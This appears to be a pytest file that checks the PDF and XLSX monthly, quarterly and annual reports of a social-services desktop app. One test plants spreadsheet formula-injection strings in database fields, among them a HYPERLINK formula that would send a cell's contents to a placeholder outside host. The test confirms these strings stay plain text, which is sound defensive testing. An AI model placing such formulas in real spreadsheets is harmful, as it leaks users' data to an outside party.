"""Periodic report files: real PDF and XLSX written, then read back (pdftotext, openpyxl)."""

from __future__ import annotations

import re
import subprocess
import time
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from jssc_desktop.domain.errors import PermissionDenied, StorageError, ValidationError
from jssc_desktop.domain.periods import parse_period
from jssc_desktop.reports import generate_report as _generate_report
from jssc_desktop.reports import report_file_name
from jssc_desktop.reports.dataset import build_dataset
from jssc_desktop.reports.layout import tables as layout_tables
from jssc_desktop.storage.models import (
    AuditLog,
    Cohort,
    FacilityRequest,
    TrainingTrack,
    Tutor,
)

from . import report_fixtures as rf
from .conftest import _make_actors

TODAY = date(2026, 11, 23)
def _in_session(fn, target, *args, **kw):  # type: ignore[no-untyped-def]
    """Run a use case (session, actor, …) on a Database or an open Session."""
    from sqlalchemy.orm import Session

    if isinstance(target, Session):
        return fn(target, *args, **kw)
    with target.session() as s:
        return fn(s, *args, **kw)


def generate_report(db, *args, **kw):  # type: ignore[no-untyped-def]
    return _in_session(_generate_report, db, *args, **kw)


TITLE = "LAPORAN BULANAN UPT PELAYANAN SOSIAL BINA REMAJA MALANG PERIODE OKTOBER 2026"


def pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout


def pdf_info(path: Path) -> dict[str, str]:
    out = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True,
                         check=True).stdout
    return {k.strip(): v.strip() for k, v in
            (line.split(":", 1) for line in out.splitlines() if ":" in line)}


def squash(text: str) -> str:
    return re.sub(r"\s+", " ", text)


@pytest.fixture
def small(sqlite_db):  # type: ignore[no-untyped-def]
    """The known UPT on SQLite (rendering does not depend on the backend)."""
    actors = _make_actors(sqlite_db)
    fx = rf.build(sqlite_db, actors)
    return sqlite_db, actors, fx


def test_report_files_on_both_backends(db, actors, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    rf.build(db, actors)
    paths = generate_report(db, actors["staff"], "monthly", "2026-10", out_dir=tmp_path,
                            today=TODAY)
    assert [p.name for p in paths] == ["laporan-bulanan-2026-10-sementara.pdf",
                                       "laporan-bulanan-2026-10-sementara.xlsx"]
    assert all(p.stat().st_size > 5000 for p in paths)
    assert not list(tmp_path.glob(".*tmp"))  # written through a temporary file, then renamed
    text = squash(pdf_text(paths[0]))
    assert "1 Klien pada awal periode 13" in text
    wb = openpyxl.load_workbook(paths[1])
    assert [c.value for c in wb["2.1 Alur Klien"][5]] == ["1", "Klien pada awal periode", None,
                                                           None, 13]
    with db.session() as s:
        actions = [a for (a,) in s.query(AuditLog.action).all()]
    assert "report.generate" in actions


def test_pdf_content_pages_and_signature(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    pdf = generate_report(db, actors["head"], "monthly", "2026-10", formats=("pdf",),
                          out_dir=tmp_path, today=TODAY)[0]
    info = pdf_info(pdf)
    assert info["Title"] == TITLE
    assert info["Page size"].startswith("595.276 x 841.89")  # A4 portrait
    pages = int(info["Pages"])
    assert pages >= 3
    raw = pdf_text(pdf)
    per_page = raw.split("\f")
    for n in range(1, pages + 1):
        assert f"Halaman {n} dari {pages}" in per_page[n - 1]
    text = squash(raw)
    for expected in (
        "PEMERINTAH PROVINSI JAWA TIMUR", "DINAS SOSIAL", "LAPORAN BULANAN",
        "UPT PELAYANAN SOSIAL BINA REMAJA MALANG", "PERIODE OKTOBER 2026",
        "1 Oktober 2026 s.d. 31 Oktober 2026",
        "SEMENTARA · data per 31 Oktober 2026",
        "3 Tingkat hunian 65,0%",
        "1 Klien pada awal periode 13", "2 Klien masuk dalam periode 2 2 4",
        "4 Klien pada akhir periode (1 + 2 − 3) 7 6 13",
        "P04 Anak Jalanan 3 0 3", "P23 Perempuan Rawan Sosial Ekonomi 0 2 2",
        "P01 Anak Balita Telantar 0 0 0",
        "13-17 13–17 tahun 2 2 4", "9999 Luar Jawa Timur 1 1 2",
        "AC Reparasi AC 1 4 3 14 72,7% 2 1 66,7%", "Jumlah 2 8 6 23 78,3% 2 1 66,7%",
        "JHT Menjahit 9 1 0 1 1 12 83,3%",
        "Rp 2.250.000", "AC Reparasi AC 3 2 0 5 3 2 66,7% Rp 1.750.000",
        "3 Terlambat per 31 Oktober 2026: jatuh tempo dalam periode 1",
        "4 Terlambat per 31 Oktober 2026: tunggakan sebelumnya 0",
        "6 Lulusan terpantau dalam periode (dihitung sekali) 3",
        "dianggarkan Dianggarkan 1 Rp 250.000.000",
        "Malang, 23 November 2026", "Kepala UPT", rf.HEAD_NAME, "NIP. 19700101 199503 2 001",
        "10 NIP Kepala UPT 19700101 199503 2 001",
    ):
        assert expected in text, expected
    # the signature block closes the last page
    assert "NIP. 19700101 199503 2 001" in per_page[pages - 1]  # signature: NIP spaced
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True,
                           check=True).stdout
    assert "DejaVuSans" in fonts and "DejaVuSans-Bold" in fonts
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])  # embedded


def test_report_kinds_file_names_and_titles(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    for kind, text, name, title in (
        ("quarterly", "2026-Q4", "laporan-triwulan-2026-Q4-sementara.pdf",
         "PERIODE TRIWULAN IV 2026"),
        ("semester", "2026-S2", "laporan-semester-2026-S2-sementara.pdf",
         "PERIODE SEMESTER II 2026"),
        ("annual", "2026", "laporan-tahunan-2026-sementara.pdf", "PERIODE TAHUN 2026"),
    ):
        path = generate_report(db, actors["admin"], kind, text, formats=["pdf"],
                               out_dir=tmp_path, today=TODAY)[0]
        assert path.name == name
        info = pdf_info(path)
        # the footer names the period once ("Laporan Triwulan IV 2026", not "Triwulan
        # Triwulan IV")
        footer = squash(pdf_text(path))
        assert "Triwulan Triwulan" not in footer and "Semester Semester" not in footer
        assert info["Title"].startswith(f"LAPORAN {kind_word(kind)} ") and \
            info["Title"].endswith(title)
    assert report_file_name(parse_period("2026-10"), "xlsx") == "laporan-bulanan-2026-10.xlsx"


def kind_word(kind: str) -> str:
    return {"quarterly": "TRIWULAN", "semester": "SEMESTER", "annual": "TAHUNAN"}[kind]


def test_bad_requests_are_refused(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    tmp_path = tmp_path / "out"
    with pytest.raises(PermissionDenied):
        generate_report(db, actors["tutor"], "monthly", "2026-10", out_dir=tmp_path)
    with pytest.raises(ValidationError, match="tidak cocok"):
        generate_report(db, actors["staff"], "monthly", "2026-Q3", out_dir=tmp_path)
    with pytest.raises(ValidationError, match="Format"):
        generate_report(db, actors["staff"], "monthly", "2026-10", formats=("docx",),
                        out_dir=tmp_path)
    with pytest.raises(ValidationError):
        generate_report(db, actors["staff"], "weekly", "2026-10", out_dir=tmp_path)
    assert not tmp_path.exists() or list(tmp_path.iterdir()) == []


def test_cancelled_run_leaves_no_files_and_bad_folder_is_reported(small, tmp_path: Path
                                                                  ) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    out = tmp_path / "out"
    phases: list[tuple[str, float]] = []

    class Stop(Exception):
        pass

    def progress(phase: str, fraction: float) -> None:
        phases.append((phase, fraction))
        if phase.endswith("XLSX"):
            raise Stop

    with pytest.raises(Stop):
        generate_report(db, actors["staff"], "monthly", "2026-10", out_dir=out, today=TODAY,
                        progress=progress)
    assert [p for p, _ in phases] == ["Menghitung data laporan", "Menyusun PDF",
                                      "Menyusun XLSX"]
    assert not out.exists() or list(out.iterdir()) == []
    blocker = tmp_path / "bukan-folder"
    blocker.write_text("x")
    with pytest.raises(StorageError, match="tidak dapat ditulis"):
        generate_report(db, actors["staff"], "monthly", "2026-10", out_dir=blocker / "sub",
                        today=TODAY)


def _table(ws, header_first: str) -> tuple[int, list[tuple]]:  # type: ignore[no-untyped-def]
    """(header row number, rows below it up to the first empty row)."""
    rows = list(ws.iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r and r[0] == header_first or
                 (len(r) > 1 and r[1] == header_first))
    out = []
    for r in rows[start + 1:]:
        if all(v is None for v in r):
            break
        out.append(r)
    return start + 1, out


def test_xlsx_values_formats_and_layout(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    path = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("xlsx",),
                           out_dir=tmp_path, today=TODAY)[0]
    with db.session() as s:
        ds = build_dataset(s, parse_period("2026-10"), today=TODAY)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Sampul", *[tb["sheet"] for tb in layout_tables()]]
    cover = wb["Sampul"]
    cover_values = [c.value for row in cover.iter_rows() for c in row]
    assert TITLE in cover_values and "19700101 199503 2 001" in cover_values
    assert "SEMENTARA · data per 31 Oktober 2026" in cover_values

    # every resident breakdown, number by number, every code present
    for sheet, rows in (("3.1 PPKS", ds.residents.by_ppks), ("3.2 Umur", ds.residents.by_age),
                        ("3.3 Asal", ds.residents.by_origin),
                        ("3.4 Tahapan", ds.residents.by_stage)):
        ws = wb[sheet]
        header_row, body = _table(ws, "Kode")
        assert ws.freeze_panes == f"A{header_row + 1}"
        assert ws.cell(row=header_row, column=1).font.b
        assert [tuple(r[:5]) for r in body[:-2]] == [
            (x.code, x.name, x.l, x.p, x.count) for x in rows]
        assert tuple(body[-2][1:5]) == ("Jumlah", 7, 6, 13)
        assert ws.cell(row=header_row + 1, column=5).number_format == "#,##0"

    ws = wb["4.1 Program"]
    header_row, body = _table(ws, "Kode")
    by_code = {t.code: t for t in ds.training.tracks}
    for r in body[:-1]:
        if r[1] == "Jumlah":
            break
        t = by_code[r[0]]
        assert r[2:10] == (t.cohorts, t.enrolled, t.sessions, t.jp,
                           None if t.attendance_rate is None else
                           pytest.approx(round(t.attendance_rate, 3)), t.graduates, t.failed,
                           None if t.pass_rate is None else pytest.approx(round(t.pass_rate, 3)))
    assert ws.cell(row=header_row + 1, column=7).number_format == "0.0%"
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage

    ws = wb["6.4 Efektivitas"]
    header_row, body = _table(ws, "Kode")
    assert [(r[0], r[1], r[5], r[6], r[7], r[9]) for r in body if r[5]] == [
        ("AC", "Reparasi AC", 5, 3, 2, 1_750_000), ("JHT", "Menjahit", 2, 2, 1, 3_000_000),
        (None, "Jumlah", 7, 5, 3, 2_000_000)]
    assert ws.cell(row=header_row + 1, column=10).number_format == '"Rp" #,##0'

    ws = wb["7.5 Daftar Usulan"]
    header_row, body = _table(ws, "Kode")
    assert [(r[0], r[4], r[5]) for r in body if r[1] != "Jumlah" and r[0]] == [
        (x.number, x.estimated_cost, x.status_name) for x in ds.facility.requests]
    assert wb["2.1 Alur Klien"].page_setup.orientation == "portrait"

    # values only: not one formula anywhere
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows()
               for c in row)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
                                  for n in sheets)


def test_formula_like_text_stays_text(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db, actors, fx = small
    evil = {
        "title": '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
        "tutor": "+62 812 3456 7890",
        "track": "@SUM(1+1)",
        "cohort": "-1+2 Angkatan",
    }
    with db.session() as s:
        s.get(FacilityRequest, fx.facility["F1"]).title = evil["title"]
        s.get(Tutor, fx.tutors["Rina Marlina"]).name = evil["tutor"]
        s.get(TrainingTrack, fx.tracks["AC"]).name = evil["track"]
        s.get(Cohort, fx.cohorts["K2"]).name = evil["cohort"]
    path = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("xlsx",),
                           out_dir=tmp_path, today=TODAY)[0]
    wb = openpyxl.load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                for key, text in evil.items():
                    if c.value == text:
                        found.setdefault(key, []).append(c)
    assert set(found) == set(evil)
    for cells in found.values():
        for c in cells:
            assert c.data_type == "s"
            assert c.quotePrefix  # Excel keeps it text even after editing the cell
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist()
                      if n.startswith("xl/worksheets/sheet"))
    assert "<f>" not in xml and "<f " not in xml
    assert "<t>=HYPERLINK(&quot;http://contoh.invalid/" in xml or \
        '<t>=HYPERLINK("http://contoh.invalid/' in xml
    # and the PDF prints the same text literally
    pdf = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("pdf",),
                          out_dir=tmp_path, today=TODAY)[0]
    assert "+62 812 3456 7890" in pdf_text(pdf)


def test_long_tables_render_fast(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """3000 facility requests: the request list runs over many pages, in linear time."""
    db, actors, _ = small
    with db.session() as s:
        s.execute(FacilityRequest.__table__.insert(), [
            {"number": f"USL-X-{i:05d}", "title": f"Perbaikan ruang praktik nomor {i}",
                 "kind": "fisik" if i % 2 else "nonfisik", "funding_source": "apbd",
                 "estimated_cost": 1_000_000 + i, "priority": "sedang", "status": "draf",
                 "created_at": datetime(2026, 9, 1, 8, 0), "updated_at": datetime(2026, 9, 1, 8, 0),
                 "version": 1}
            for i in range(3000)])
    started = time.perf_counter()
    paths = generate_report(db, actors["staff"], "monthly", "2026-10", out_dir=tmp_path,
                            today=TODAY)
    seconds = time.perf_counter() - started
    assert seconds < 45, seconds
    info = pdf_info(paths[0])
    pages = int(info["Pages"])
    assert pages > 60
    text = pdf_text(paths[0])
    assert "USL-X-02999" in text and f"Halaman {pages} dari {pages}" in text
    # the header row repeats on every page of the list
    assert text.count("Nilai (RAB)") >= pages - 10
    wb = openpyxl.load_workbook(paths[1], read_only=True)
    ws = wb["7.5 Daftar Usulan"]
    assert ws.max_row > 3000


def test_chunked_table_builder_is_linear(tmp_path: Path) -> None:
    from jssc_desktop.reports.pdfkit import build_pdf, data_table, frame_width

    width = frame_width()
    rows = [[str(i), f"Baris {i}", f"{i * 3:,}".replace(",", ".")] for i in range(3000)]
    tables = data_table(["No", "Uraian", "Nilai"], rows, [width * 0.1, width * 0.6,
                                                          width * 0.3],
                        totals=["", "Jumlah", "13.495.500"], right=[2])
    assert len(tables) == 15  # 200 rows per Table
    started = time.perf_counter()
    content = build_pdf(tables, title="Uji", author="Uji", subject="Uji", footer="Uji")
    assert time.perf_counter() - started < 15
    out = tmp_path / "panjang.pdf"
    out.write_bytes(content)
    text = pdf_text(out)
    assert "Baris 2999" in text and "13.495.500" in text


def test_rendered_pages_stay_inside_the_margins(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Render every page to pixels: the letterhead logo is on page 1, and nothing (no table,
    no chart) spills into the left or right margin of any page."""
    from PIL import Image

    db, actors, _ = small
    pdf = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("pdf",),
                          out_dir=tmp_path, today=TODAY)[0]
    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(tmp_path / "page")],
                   check=True)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == int(pdf_info(pdf)["Pages"])
    for n, page in enumerate(pages, start=1):
        img = Image.open(page).convert("RGB")
        width, height = img.size  # A4 at 60 dpi: about 496 x 702
        margin = round(12 / 25.4 * 60)  # 12 mm: the text frame starts at 18 mm
        for x in [*range(margin), *range(width - margin, width)]:
            column = [img.getpixel((x, y)) for y in range(0, height, 2)]
            assert all(min(p) > 235 for p in column), f"page {n}: ink in the margin at x={x}"
        if n == 1:
            blues = [p for p in (img.getpixel((x, y)) for x in range(width // 3)
                                 for y in range(height // 8)) if p[2] > 110 and p[0] < 60]
            assert len(blues) > 100  # the logo sits in the letterhead


def test_empty_database_still_gives_a_report(sqlite_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    actors = _make_actors(sqlite_db)
    pdf, xlsx = generate_report(sqlite_db, actors["admin"], "monthly", "2026-10",
                                out_dir=tmp_path, today=TODAY)
    text = squash(pdf_text(pdf))
    assert "profil belum diisi".upper() in text and "Tidak ada data pada periode ini." in text
    assert "NIP. -" in text
    wb = openpyxl.load_workbook(xlsx)
    assert [c.value for c in wb["2.1 Alur Klien"][8]] == [
        "4", "Klien pada akhir periode (1 + 2 − 3)", 0, 0, 0]


def _shape(path: Path) -> dict[str, list[tuple[str, str]]]:
    """Sheet name -> (code, label) of every row of its fixed tables."""
    wb = openpyxl.load_workbook(path)
    listing = {tb["sheet"] for tb in layout_tables() if tb.get("listing")}
    out = {}
    for ws in wb.worksheets[1:]:
        rows = [(str(r[0] or ""), str(r[1] or "")) for r in ws.iter_rows(min_row=4,
                                                                         values_only=True)
                if r[1] is not None and r[1] != ""]  # notes and titles fill column A only
        out[ws.title] = [] if ws.title in listing else rows
    return out


def test_empty_and_full_periods_have_the_same_sheets_rows_and_codes(small, tmp_path: Path
                                                                     ) -> None:  # type: ignore[no-untyped-def]
    db, actors, _ = small
    full = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("xlsx",),
                           out_dir=tmp_path / "full", today=TODAY)[0]
    # January 2019: nothing happened yet (no client, no session, no follow-up)
    empty = generate_report(db, actors["staff"], "monthly", "2019-01", formats=("xlsx",),
                            out_dir=tmp_path / "empty", today=TODAY)[0]
    a, b = _shape(full), _shape(empty)
    assert list(a) == list(b)
    # the same codes in every sheet (labels may name the period's dates)
    assert {k: [c for c, _ in v] for k, v in a.items()} == \
        {k: [c for c, _ in v] for k, v in b.items()}
    assert a["3.1 PPKS"] == b["3.1 PPKS"] and a["3.3 Asal"] == b["3.3 Asal"]
    assert ("P26", "Komunitas Adat Terpencil") in a["3.1 PPKS"]
    assert ("3579", "Kota Batu") in a["3.3 Asal"] and ("7", "Bimbingan lanjut") in a["3.4 Tahapan"]
    assert [c for c, _ in a["4.1 Program"]] == ["Kode", "AC", "JHT", "OTO", "TB", ""]
    pdf_full = squash(pdf_text(generate_report(db, actors["staff"], "monthly", "2019-01",
                                               formats=("pdf",), out_dir=tmp_path / "p",
                                               today=TODAY)[0]))
    assert "P26 Komunitas Adat Terpencil 0 0 0" in pdf_full


def test_one_rounding_rule_in_pdf_and_xlsx(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """13/16 = 0,8125: half up gives 81,3 % in the PDF and in the workbook alike."""
    from jssc_desktop.reports.pdf import render_pdf
    from jssc_desktop.reports.xlsx import render_xlsx

    db, _actors, _ = small
    with db.session() as s:
        ds = build_dataset(s, parse_period("2026-10"), today=TODAY)
    ds.flow.occupancy = 13 / 16
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render_pdf(ds))
    assert "3 Tingkat hunian 81,3%" in squash(pdf_text(pdf))
    xlsx = tmp_path / "r.xlsx"
    xlsx.write_bytes(render_xlsx(ds))
    cell = openpyxl.load_workbook(xlsx)["1.2 Hunian"]["C7"]
    assert cell.value == pytest.approx(0.813) and cell.number_format == "0.0%"
    # Excel shows 0.813 with 0.0% as 81,3%: the same digits as the PDF


def test_number_columns_fit_their_widest_figure(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Billions of Rupiah (a province-funded building) and the bold totals row print on one
    line in their column, and no header word is broken ("Rp" once wrapped above
    "8.303.400.000", "Jatuh tempo" into "temp/o")."""
    from jssc_desktop.storage.models import FacilityRequest

    db, actors, _ = small
    with db.session() as s:
        for request in s.query(FacilityRequest):
            request.estimated_cost = 2_468_135_790
    pdf = generate_report(db, actors["head"], "monthly", "2026-10", formats=("pdf",),
                          out_dir=tmp_path, today=TODAY)[0]
    raw = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                         check=True).stdout
    lines = [line.strip() for line in raw.splitlines()]
    assert "Rp" not in lines
    assert any(re.fullmatch(r"Rp \d{1,3}(\.\d{3}){3,}", line) for line in lines)
    assert "temp" not in lines and "o" not in lines
    assert "Jatuh tempo" in squash(raw)


def test_xlsx_cell_styles_per_kind_of_row(small, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every cell of a table keeps the style of its kind of row (styles are worked out once
    per combination and copied, reports/xlsx.py): header bold on the header fill with a
    border, body cells with a border and their number format, the total row bold on the total
    fill."""
    db, actors, _ = small
    path = generate_report(db, actors["staff"], "monthly", "2026-10", formats=("xlsx",),
                           out_dir=tmp_path, today=TODAY)[0]
    wb = openpyxl.load_workbook(path)
    checked = 0
    for sheet in ("3.1 PPKS", "4.1 Program", "6.4 Efektivitas"):
        ws = wb[sheet]
        header_row, body = _table(ws, "Kode")
        width = len(body[0])
        end = next(i for i, r in enumerate(body) if r[1] == "Jumlah")
        body = body[:end + 1]  # a note below the total is plain text
        for c in range(1, width + 1):
            cell = ws.cell(row=header_row, column=c)
            assert cell.font.b and cell.fill.fgColor.rgb.endswith("D9E2F3"), (sheet, c)
            assert cell.border.left.style == "thin" and cell.alignment.wrap_text
        for r, values in enumerate(body, start=header_row + 1):
            total = values[1] == "Jumlah"
            for c in range(1, width + 1):
                cell = ws.cell(row=r, column=c)
                assert cell.border.bottom.style == "thin", (sheet, r, c)
                assert bool(cell.font.b) == total, (sheet, r, c)
                assert cell.fill.fgColor.rgb.endswith("EDEDED") == total, (sheet, r, c)
                checked += 1
        assert ws.cell(row=header_row + 1, column=3).number_format == "#,##0"
    assert checked > 100


def test_reportlab_runs_with_its_c_accelerator() -> None:
    """rl-accel (pyproject) is installed and ReportLab uses it, not its Python fallback."""
    from reportlab.lib import rl_accel

    assert getattr(rl_accel.fp_str, "__module__", "") == "_rl_accel"
